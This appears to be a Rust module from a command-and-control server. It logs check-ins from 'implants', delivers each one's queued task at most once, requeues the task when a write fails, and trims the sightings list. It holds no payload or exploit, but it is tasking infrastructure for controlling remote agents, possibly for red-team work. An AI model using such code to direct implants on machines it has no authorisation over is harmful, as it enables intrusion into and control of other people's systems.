//! Implant-facing side of the shared document.
//!
//! Implants do not hold a connection; whatever transport fronts them calls
//! [`check_in`] once per request.

use chrono::Utc;
use switchboard_store::{Manager, Persisted, StoreError};
use switchboard_types::Document;
use tracing::{info, warn};

/// Record that implant `id` called in from `from` and hand it its next
/// task, if any.
///
/// The sighting and the dequeue happen under one exclusive hold, so a task
/// is delivered at most once even when the same implant checks in twice
/// concurrently. `capacity` bounds the sightings list; the transport in
/// front of the implants passes `state.last_seen_capacity` from the
/// server configuration.
///
/// # Errors
///
/// Returns the persistence error if the updated document could not be
/// written. The sighting is kept in memory, but the popped task goes back
/// to the front of the queue so the next check-in delivers it.
pub async fn check_in(
    store: &Manager<Document>,
    id: &str,
    from: &str,
    capacity: usize,
) -> Result<Option<String>, StoreError> {
    let mut doc = store.write().await;
    doc.record_sighting(id, from, Utc::now(), capacity);
    let task = doc.take_task(id);
    if let Err(e) = doc.release().await {
        if let Some(task) = task {
            warn!(id, task = %task, "delivery not persisted, task requeued");
            store.write().await.requeue(id, task);
        }
        return Err(e);
    }

    info!(id, from, "Implant seen");
    if let Some(task) = &task {
        info!(id, task = %task, "Task delivered");
    }
    Ok(task)
}

/// Shrink the sightings list to `capacity`, dropping the oldest entries.
///
/// Run at startup so a lowered `state.last_seen_capacity` applies to the
/// persisted list straight away rather than on the next check-in.
///
/// # Errors
///
/// Returns the persistence error if the trimmed document could not be
/// written.
pub async fn trim_sightings(
    store: &Manager<Document>,
    capacity: usize,
) -> Result<Persisted, StoreError> {
    let mut doc = store.write().await;
    doc.last_seen.truncate(capacity);
    doc.release().await
}
